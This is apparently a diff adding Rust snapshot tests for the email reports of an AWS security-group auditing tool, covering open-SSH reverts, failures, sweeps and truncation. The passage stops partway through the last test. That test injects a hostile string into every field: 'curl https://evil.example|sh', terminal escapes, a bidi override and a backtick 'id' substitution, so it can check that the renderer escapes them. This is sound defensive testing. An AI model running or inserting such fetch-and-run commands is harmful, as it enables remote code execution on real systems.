@@ -1,0 +1,536 @@
+use insta::assert_snapshot;
+
+use super::{failed, gone, mysql, narrowed, open_ssh, report, rule, unaudited};
+use crate::finding::{Code, Finding, FindingChange, Outcome, Severity};
+use crate::report::email::body;
+use crate::rule::{Direction, Protocol};
+
+fn of(finding: Finding) -> String {
+    body(&report(vec![finding]))
+}
+
+#[test]
+fn narrowed_open_ssh() {
+    assert_snapshot!(of(narrowed()), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    Kept: tcp 22 from 203.0.113.0/24
+    Connections: Those made meanwhile ended with the rule.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn reverted_open_ssh_without_sources() {
+    let mut finding =
+        gone(Outcome::Reverted, "The rule was revoked; nothing of it was left to add.");
+    finding.remediation.kept = Vec::new();
+    finding.excess_text = "tcp 22 from anywhere".to_owned();
+    assert_snapshot!(of(finding), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed after 41 s. The rule was revoked; nothing of it was left to add.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere
+    Kept: nothing
+    Connections: Those made meanwhile ended with the rule.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn reverted_all_tcp_ports() {
+    let mut finding = narrowed();
+    finding.title = "tcp 0-65535 from 0.0.0.0/0 lets the whole Internet reach SSH and every other TCP port on typo3-shop.".to_owned();
+    finding.rule = Some(rule(Protocol::TCP, 0, 65535, "0.0.0.0/0"));
+    finding.excess_text =
+        "tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24"
+            .to_owned();
+    finding.remediation.detail =
+        "The rule was revoked, and three rules put in its place.".to_owned();
+    finding.remediation.kept =
+        ["tcp 80 from 0.0.0.0/0", "tcp 443 from 0.0.0.0/0", "tcp 22 from 203.0.113.0/24"]
+            .map(str::to_owned)
+            .to_vec();
+    assert_snapshot!(of(finding), @r#"
+    tcp 0-65535 from 0.0.0.0/0 lets the whole Internet reach SSH and every other TCP port on typo3-shop.
+    Closed after 41 s. The rule was revoked, and three rules put in its place.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: tcp 0-65535 from 0.0.0.0/0
+    Too much: tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24
+    Kept: tcp 80 from 0.0.0.0/0; tcp 443 from 0.0.0.0/0; tcp 22 from 203.0.113.0/24
+    Connections: Those made meanwhile ended with the rule.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn a_revert_that_failed() {
+    assert_snapshot!(of(failed()), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Still open. EC2 refused the revoke: UnauthorizedOperation (the function's role may not call ec2:RevokeSecurityGroupIngress on this group).
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    A revert would keep: tcp 22 from 203.0.113.0/24
+
+    What is still open has to be closed by hand.
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn a_revert_that_took_too_much() {
+    let mut finding = gone(
+        Outcome::Failed,
+        "The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.",
+    );
+    finding.rule = Some(rule(Protocol::TCP, 22, 80, "0.0.0.0/0"));
+    finding.remediation.kept = vec!["tcp 80 from 0.0.0.0/0".to_owned()];
+    assert_snapshot!(of(finding), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed, but something that should have stayed is gone too. The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: tcp 22-80 from 0.0.0.0/0
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    Should be kept: tcp 80 from 0.0.0.0/0
+    Connections: Those made meanwhile ended with the rule.
+
+    Put back by hand what should have been kept: a website may be down.
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn under_notify() {
+    assert_snapshot!(of(open_ssh()), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    A revert would keep: tcp 22 from 203.0.113.0/24
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn already_gone() {
+    assert_snapshot!(of(gone(Outcome::AlreadyGone, "EC2 had nothing to revoke: somebody else was faster.")), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    EC2 had nothing to revoke: somebody else was faster.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    Connections: Those made meanwhile ended with the rule.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn an_event_that_nobody_can_read() {
+    assert_snapshot!(of(unaudited()), @r"
+    A change of a security group could not be audited.
+    The event is no JSON: expected value at line 1 column 1.
+
+    Seen: 2026-11-22 03:12:50 UTC
+
+    Look at the group yourself: what the change did was not judged, and nothing was closed.
+
+    Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    ");
+}
+
+#[test]
+fn a_change_that_could_not_be_audited() {
+    let known = open_ssh();
+    let mut finding = Finding {
+        group: known.group,
+        region: known.region,
+        account: known.account,
+        change: known.change,
+        console_url: known.console_url,
+        title: "A change of typo3-shop could not be audited.".to_owned(),
+        ..unaudited()
+    };
+    finding.remediation.detail = "EC2 refused to list its rules: UnauthorizedOperation.".to_owned();
+    assert_snapshot!(of(finding), @r"
+    A change of typo3-shop could not be audited.
+    EC2 refused to list its rules: UnauthorizedOperation.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+
+    Look at the group yourself: what the change did was not judged, and nothing was closed.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    ");
+}
+
+#[test]
+fn smtp_of_a_development_server() {
+    let mut finding = mysql();
+    finding.code = Code::EgressNotInBaseline;
+    finding.severity = Severity::Low;
+    finding.title =
+        "tcp 25 to 0.0.0.0/0 is not in the baseline on typo3-shop, where SMTP is blocked."
+            .to_owned();
+    let mut smtp = rule(Protocol::TCP, 25, 25, "0.0.0.0/0");
+    smtp.direction = Direction::Egress;
+    finding.rule = Some(smtp);
+    finding.excess_text = "tcp 25 to anywhere".to_owned();
+    assert_snapshot!(of(finding), @r"
+    tcp 25 to 0.0.0.0/0 is not in the baseline on typo3-shop, where SMTP is blocked.
+    Nothing was done about it: revert-ssh leaves it.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: tcp 25 to 0.0.0.0/0
+    Too much: tcp 25 to anywhere
+
+    If it was needed: add it to the baseline, or make an exemption.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: egress-not-in-baseline, low, baseline standard 1a2b3c4d5e6f, fingerprint 60303ae22b998861
+    ");
+}
+
+#[test]
+fn a_baseline_that_admits_ssh_from_anywhere() {
+    let mut finding = unaudited();
+    finding.code = Code::OpenSshInBaseline;
+    finding.severity = Severity::Informational;
+    finding.title =
+        "The baseline as-documented admits SSH from anywhere; CIS and Security Hub fail that."
+            .to_owned();
+    finding.remediation.detail = String::new();
+    assert_snapshot!(of(finding), @r"
+    The baseline as-documented admits SSH from anywhere; CIS and Security Hub fail that.
+
+    Seen: 2026-11-22 03:12:50 UTC
+
+    If it was needed: keep it; else name the SSH sources, or use the baseline standard.
+
+    Reference: open-ssh-in-baseline, informational, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    ");
+}
+
+#[test]
+fn a_finding_of_a_sweep_with_nothing_but_ids() {
+    let mut finding = open_ssh();
+    finding.change = None;
+    finding.account = None;
+    finding.console_url = None;
+    let group = finding.group.as_mut().unwrap();
+    (group.name, group.vpc_id) = (None, None);
+    let rule = finding.rule.as_mut().unwrap();
+    (rule.id, rule.description) = (None, None);
+    assert_snapshot!(of(finding.clone()), @r"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+
+    Seen: 2026-11-22 03:12:50 UTC
+    Group: sg-0a1b2c3d4e5f60718, eu-central-1
+    Rule: tcp 22 from 0.0.0.0/0
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    A revert would keep: tcp 22 from 203.0.113.0/24
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    ");
+    finding.change = Some(FindingChange::default());
+    assert_snapshot!(of(finding), @r"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+
+    Group: sg-0a1b2c3d4e5f60718, eu-central-1
+    Rule: tcp 22 from 0.0.0.0/0
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    A revert would keep: tcp 22 from 203.0.113.0/24
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did.
+
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    ");
+}
+
+#[test]
+fn both_families_in_one_call() {
+    let mut ipv6 = narrowed();
+    ipv6.title = "tcp 22 from ::/0 lets the whole Internet reach SSH on typo3-shop.".to_owned();
+    ipv6.fingerprint = "2c26b46b68ffc68f".to_owned();
+    ipv6.rule = Some(rule(Protocol::TCP, 22, 22, "::/0"));
+    ipv6.excess_text = "tcp 22 from any IPv6 address but 2001:db8:1::/48".to_owned();
+    ipv6.remediation.kept = vec!["tcp 22 from 2001:db8:1::/48".to_owned()];
+    ipv6.remediation.detail =
+        "The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.".to_owned();
+    ipv6.remediation.undo = Some("aws ec2 authorize-security-group-ingress …".to_owned());
+    assert_snapshot!(body(&report(vec![narrowed(), ipv6])), @r#"
+    2 findings, worst first: 2 critical.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+
+    1. tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    Kept: tcp 22 from 203.0.113.0/24
+    Connections: Those made meanwhile ended with the rule.
+    To undo:
+    aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
+    Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
+
+    2. tcp 22 from ::/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed after 41 s. The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.
+    Rule: tcp 22 from ::/0
+    Too much: tcp 22 from any IPv6 address but 2001:db8:1::/48
+    Kept: tcp 22 from 2001:db8:1::/48
+    Connections: Those made meanwhile ended with the rule.
+    To undo:
+    aws ec2 authorize-security-group-ingress …
+    Reference: open-ssh, critical, fingerprint 2c26b46b68ffc68f
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: baseline standard 1a2b3c4d5e6f
+    "#);
+}
+
+#[test]
+fn a_sweep_of_many_groups() {
+    let findings = (0..30).map(|n| {
+        let mut finding = if n == 0 { open_ssh() } else { mysql() };
+        finding.change = None;
+        finding.group.as_mut().unwrap().name = Some(format!("typo3-{n}"));
+        finding
+    });
+    let mut report = report(findings.collect());
+    (report.part, report.parts, report.partial) = (Some(1), Some(2), true);
+    assert_snapshot!(body(&report), @r#"
+    30 findings, worst first: 1 critical, 29 high.
+
+    Seen: 2026-11-22 03:12:50 UTC
+
+    1. tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+    Group: typo3-0, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from anywhere but 203.0.113.0/24
+    A revert would keep: tcp 22 from 203.0.113.0/24
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
+
+    2. tcp 3306 from 0.0.0.0/0 is not in the baseline on typo3-shop.
+    Nothing was done about it: revert-ssh leaves it.
+    Group: typo3-1, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
+    Too much: tcp 3306 from anywhere
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861
+
+    3. tcp 3306 from 0.0.0.0/0 is not in the baseline on typo3-shop.
+    Nothing was done about it: revert-ssh leaves it.
+    Group: typo3-2, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
+    Too much: tcp 3306 from anywhere
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861
+
+    4. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-3, ingress-not-in-baseline, high
+    5. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-4, ingress-not-in-baseline, high
+    6. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-5, ingress-not-in-baseline, high
+    7. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-6, ingress-not-in-baseline, high
+    8. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-7, ingress-not-in-baseline, high
+    9. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-8, ingress-not-in-baseline, high
+    10. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-9, ingress-not-in-baseline, high
+    11. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-10, ingress-not-in-baseline, high
+    12. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-11, ingress-not-in-baseline, high
+    13. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-12, ingress-not-in-baseline, high
+    14. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-13, ingress-not-in-baseline, high
+    15. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-14, ingress-not-in-baseline, high
+    16. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-15, ingress-not-in-baseline, high
+    17. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-16, ingress-not-in-baseline, high
+    18. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-17, ingress-not-in-baseline, high
+    19. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-18, ingress-not-in-baseline, high
+    20. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-19, ingress-not-in-baseline, high
+    21. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-20, ingress-not-in-baseline, high
+    22. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-21, ingress-not-in-baseline, high
+    23. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-22, ingress-not-in-baseline, high
+    and 7 more; the JSON of this message has them all.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption; add it to the baseline, or make an exemption.
+
+    This is part 1 of 2.
+    Not everything was audited.
+    Reference: baseline standard 1a2b3c4d5e6f
+    "#);
+}
+
+#[test]
+fn a_long_excess_and_a_long_undo() {
+    let mut finding = narrowed();
+    finding.excess_text = "tcp 22 from 198.51.100.0/24, ".repeat(200);
+    finding.remediation.undo = Some("aws ".repeat(5000));
+    assert_snapshot!(of(finding), @r#"
+    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
+
+    When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
+    Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
+    From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
+    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
+    Too much: tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 fr…
+    Kept: tcp 22 from 203.0.113.0/24
+    Connections: Those made meanwhile ended with the rule.
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    The command is too long for a mail, or has characters that a mail would spoil: see undo in the JSON of this message.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+
+    Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
+    "#);
+}
+
+#[test]
+fn hostile_text_in_every_field() {
+    let evil = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";
+    let mut finding = narrowed();
+    let text = || Some(evil.to_owned());
+    finding.title = evil.to_owned();
+    (finding.id, finding.fingerprint) = (evil.to_owned(), evil.to_owned());
+    (finding.account, finding.region, finding.console_url) = (text(), text(), text());
+    let group = finding.group.as_mut().unwrap();
+    (group.id, group.name, group.vpc_id) = (evil.to_owned(), text(), text());
+    let rule = finding.rule.as_mut().unwrap();
+    (rule.id, rule.description) = (text(), text());
+    finding.excess_text = evil.to_owned();
+    finding.change = Some(FindingChange {
+        event_id: text(),
+        event_name: text(),
+        time: None,
+        actor: text(),
+        source_ip: text(),
+        user_agent: text(),
+    });
+    finding.remediation.detail = evil.to_owned();
+    finding.remediation.undo = text();
+    finding.remediation.kept = vec![evil.to_owned()];
+    finding.remediation.connections = text();
+    assert_snapshot!(of(finding), @r#"
+    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Closed. x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+
+    When: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Who: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    From: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}…
